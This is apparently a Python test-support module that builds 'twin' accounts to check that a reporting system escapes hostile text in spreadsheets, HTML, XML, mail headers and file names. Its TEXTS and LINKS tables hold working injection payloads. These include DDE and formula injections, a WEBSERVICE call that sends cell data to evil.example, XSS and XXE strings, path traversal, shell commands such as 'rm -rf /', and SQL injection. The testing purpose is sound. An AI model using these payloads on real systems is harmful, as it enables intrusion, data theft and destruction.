"""Texts that turn against whoever reads them, every text field there is, and what must become of them.

A **twin** is how everything is compared: an account with a token of its own in every text field, and the same
account with a hostile text in place of each token. What is written about the second must be what is written
about the first, with the texts for the tokens: the same cells, types and formulas, the same elements and
attributes, the same lines of the log. So a field that is new, or is shown in a new place, is covered.
"""

import re
from collections.abc import Callable, Iterator, Mapping, Sequence
from copy import deepcopy
from datetime import date, timedelta
from decimal import Decimal
from typing import Any

from reports.sandbox.data import SandboxAccount, generate
from reports.sandbox.documents import Raw, client, vendor_day
from tests.support.office import ACCOUNT, invoice

CLIENT = 501
FIRST_DAY = date(2026, 1, 1)
LONG = 16_000
"""Characters: a cell holds 32,767 units, and a picture takes two."""

TEXTS: Mapping[str, str] = {
    "formula": "=1+1",
    "formula, plus": "+1+1",
    "formula, minus": "-2+3+cmd|' /C calc'!A0",
    "formula, at": "@SUM(1+1)",
    "formula, tab": "\t=1+1",
    "formula, return": "\r=1+1",
    "formula, blank": " =1+1",
    "formula, line": "a\n=1+1",
    "formula, full width": "＝1+1",
    "formula, full width plus": "＋1",
    "formula, quote": "'=1+1",
    "formula, array": "{=1+1}",
    "formula, link": '=HYPERLINK("http://evil.example","click")',
    "formula, service": '=WEBSERVICE("http://evil.example/"&A1)',
    "DDE": "=cmd|'/C calc'!A0",
    "DDE, old": '=DDE("cmd";"/C calc";"x")',
    "error": "#N/A",
    "error, reference": "#REF!",
    "number": "1E5",
    "number, zeros": "007",
    "number, infinite": "Infinity",
    "true": "TRUE",
    "date": "1/2",
    "NUL": "a\0b",
    "vertical tab": "a\x0bb\x0cc\x1fd\x7fe\x85f",
    "escape": "a\x1b[31mred\x1b]0;title\x07b",
    "lone surrogate": "a\ud800b\udfffc",
    "noncharacter": "a\ufffe\uffffb",
    "byte mark": "\ufeffa",
    "right to left": "\u202egnp.exe\u202c",
    "isolates": "\u2067a\u2066b\u200f\u200e",
    "separators": "a\u2028b\u2029c",
    "zalgo": "Z" + "\u0300\u0316\u0334\u035c" * 40 + "a",
    "invisible": "a\u200b\u200c\u200d\u2060\u00adb",
    "400": "Ana " * 100,
    "400, one word": "x" * 400,
    "40,000": "é" * 40_000,
    "20,000 pictures": "😀" * 20_000,
    "picture": "👩‍👩‍👧 🇵🇹 Família",
    "accents": "Construções São João & Irmãos, Lda – ÀÉÎÕÜ ç ñ º ª €",
    "decomposed": "Sa\u0303o Joa\u0303o",
    "script": "<script>alert(1)</script>",
    "script, closing": "</script></style></title></textarea><script>alert(1)</script>",
    "comment": "--><!--<img src=x onerror=alert(1)>",
    "attribute": '" onmouseover="alert(1)" x=\'',
    "attribute, single": "' onmouseover='alert(1)' x=\"",
    "attribute, bare": "x onfocus=alert(1) autofocus=",
    "element": "<img src=x onerror=alert(1)><svg onload=alert(1)>",
    "element, foreign": "<link rel=stylesheet href=//evil.example><iframe src=//evil.example></iframe>",
    "base": "<base href='//evil.example/'><meta http-equiv=refresh content=0>",
    "style": "</style><style>*{background:url(//evil.example)}",
    "entities": "&lt;script&gt;&amp;lt;&#60;&nbsp;&copy;&bogus;",
    "template": "{{7*7}}{{ config }}{% for x in 1 %}",
    "template, others": "${7*7} #{7*7} <%= 7*7 %> {{=7*7}}",
    "percent": "%s %d %(name)s %%n {0} {name!r}",
    "CDATA": "]]><x>&x;</x>",
    "doctype": '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
    "excel escape": "_x0041_ _x000D_",
    "header": "Ana\r\nBcc: evil@example.com\r\n\r\nbody",
    "recipients": 'Ana, "Rui" <rui@example.com>; eva@example.com',
    "folded": "Ana\r\n \tfolded",
    "footer codes": '&P of &N &[File] &A &"Arial"',
    "javascript link": "javascript:alert(1)",
    "javascript link, broken": "java\tscript:alert(1)",
    "data link": "data:text/html,<script>alert(1)</script>",
    "file link": "file:///etc/passwd",
    "bare link": "//evil.example/x",
    "device": "CON",
    "device, file": "AUX.txt",
    "device, port": "com1.xlsx",
    "dots": "Ana. . .",
    "parent": "../../../etc/passwd",
    "parent, Windows": "..\\..\\Windows\\win.ini",
    "root": "/etc/passwd",
    "drive": "C:\\Windows\\x",
    "share": "\\\\evil.example\\share",
    "stream": "Ana:hidden.exe",
    "wildcards": 'a?b*c<d>e|f"g',
    "home": "~/x $HOME %USERPROFILE%",
    "one slug": "Ana & Filhos",
    "one slug again": "ANA filhos.",
    "no slug": "株式会社",
    "shell": "$(touch /tmp/x) `id` ; rm -rf /",
    "SQL": "'; DROP TABLE clients; --",
}
LINKS: Mapping[str, str] = {
    "scheme in capitals": "JaVaScRiPt:alert(1)",
    "scheme after a blank": " javascript:alert(1)",
    "scheme after a control": "\x01javascript:alert(1)",
    "scheme with a line": "java\nscript:alert(1)",
    "encoded": "javascript&colon;alert(1)",
    "VBScript": "vbscript:msgbox(1)",
    "data": "data:text/html;base64,PHNjcmlwdD4=",
    "ftp": "ftp://evil.example/x",
    "mail": "mailto:evil@example.com",
    "no host": "https:///x",
    "one slash": "https:/evil.example",
    "quote": 'https://office.example/"onmouseover="alert(1)',
    "formula": 'https://office.example/"&WEBSERVICE("http://evil.example")&"',
    "blank": "https://office.example/a b",
    "tag": "https://office.example/<script>",
    "user": "https://office.example@evil.example/",
    "capitals": "HTTPS://OFFICE.example/documents/1",
    "long": "https://office.example/" + "a" * 3_000,
}
STRUCTURE = ("type", "status", "currency", "language", "permalink")
"""Texts that decide what a document is, or are addresses: a token in one would be no control."""

_NO_TEXT = re.compile(r"-?[0-9]+\.[0-9]+|[0-9]{2}/[0-9]{2}/[0-9]{4}")
_TOKEN = re.compile(r"T([0-9]+)([xX])([0-9]+)T")
"""With a capital X where it was made capitals of, as of a code of exemption."""
_FOLDED = re.compile(r"[\s\0-\x1f\x7f-\x9f\ud800-\udfff\ufffd-\uffff\ufeff]")

Path = tuple[str | int, ...]


def sample() -> Raw:
    """A document with every field that any generated one has: a consistent invoice first, then the others."""
    base = invoice(CLIENT, "Ana", FIRST_DAY, number=1)
    for papers in generate().documents.values():
        for one in papers:
            base = _joined(base, one)
    return base


def text_fields(value: object, path: Path = ()) -> Iterator[Path]:
    """The way to every text in `value`, except numbers and days in quotes and STRUCTURE."""
    if isinstance(value, dict):
        for name, one in value.items():
            if name not in STRUCTURE:
                yield from text_fields(one, (*path, name))
    elif isinstance(value, list):
        for position, one in enumerate(value):
            yield from text_fields(one, (*path, position))
    elif value is None or (isinstance(value, str) and not _NO_TEXT.fullmatch(value)):
        yield path


def with_text(value: Raw, text: Callable[[int], str]) -> Raw:
    """A copy of `value` with `text(n)` in its n-th text field."""
    filled = deepcopy(value)
    for number, path in enumerate(text_fields(value)):
        holder: Any = filled
        for part in path[:-1]:
            holder = holder[part]
        holder[path[-1]] = text(number)
    return filled


class Twin:
    """Tokens for the control, and for each of them the text that stands in its place."""

    def __init__(self, texts: Sequence[str] = tuple(TEXTS.values())) -> None:
        self.texts = texts

    def token(self, row: int, field: int) -> str:
        return f"T{row}x{field}T"

    def text(self, row: int, field: int) -> str:
        """Over as many rows as there are texts, every field gets every text."""
        return self.texts[(row + field) % len(self.texts)]

    def replaced(self, shown: str) -> str:
        """What the hostile one has to show where the control shows `shown`."""

        def text(token: re.Match[str]) -> str:
            text = self.text(int(token[1]), int(token[3]))
            return text.upper() if token[2] == "X" else text

        return _TOKEN.sub(text, shown)


Say = Callable[[int, int], str]
"""Row and field → the text: `Twin.token` or `Twin.text`."""


def of_one_client(say: Say, rows: int) -> SandboxAccount:
    """A client with `rows` documents on days of their own; every text of each is `say(row, field)`."""
    base = sample()
    papers = []
    for row in range(rows):
        day = vendor_day(FIRST_DAY + timedelta(days=row))
        paper = with_text(base, lambda field, row=row: say(row, field))  # type: ignore[misc]
        # Documents that share a number are a finding, and those of a series have gaps between them. Several
        # texts are one when read: so each document has a series of its own.
        number = f"{paper['inverted_sequence_number']}/{row}/1"
        fixed = {"id": 9000 + row, "date": day, "due_date": day, "status": "final"}
        papers.append(paper | fixed | {"inverted_sequence_number": number})
        paper["client"]["id"] = CLIENT
    return SandboxAccount(ACCOUNT, [client(CLIENT, "Ana")], {CLIENT: papers})


def of_many_clients(say: Say, rows: int) -> SandboxAccount:
    """As many clients with a document each; every text of client and snapshot is `say(row, field)`."""
    clients, documents = [], {}
    for row in range(rows):
        identity = CLIENT + row
        about = with_text(client(identity, "Ana"), lambda field, row=row: say(row, field))  # type: ignore[misc]
        paper = invoice(identity, "Ana", date(2026, 10, 5), number=1)
        snapshot = {name: about[name] for name in about if isinstance(about[name], str)} | {"id": identity}
        clients.append(about)
        documents[identity] = [paper | {"client": snapshot}]
    return SandboxAccount(ACCOUNT, clients, documents)


def folded(text: str) -> str:
    """`text` as far as every output keeps it: without blanks and what cannot be shown."""
    return _FOLDED.sub("", text)


def in_one_order(text: str) -> str:
    """`text` folded, and its parts in one order: names that are listed stand in the order of the alphabet."""
    if len(text) > LONG:
        # What is left of a list that is cut depends on that order.
        return "long"
    return ",".join(sorted(folded(text.replace("_x005F_", "_")).split(",")))


def _joined(first: Any, second: Any) -> Any:
    """`first` with what only `second` has; a text is better than none."""
    if isinstance(first, dict) and isinstance(second, dict):
        return {name: _joined(first.get(name), second.get(name)) for name in {**first, **second}}
    if isinstance(first, list) and isinstance(second, list) and first and second:
        item = first[0]
        for other in second:
            item = _joined(item, other)
        return [item]
    return second if first is None and not isinstance(second, Decimal) else first
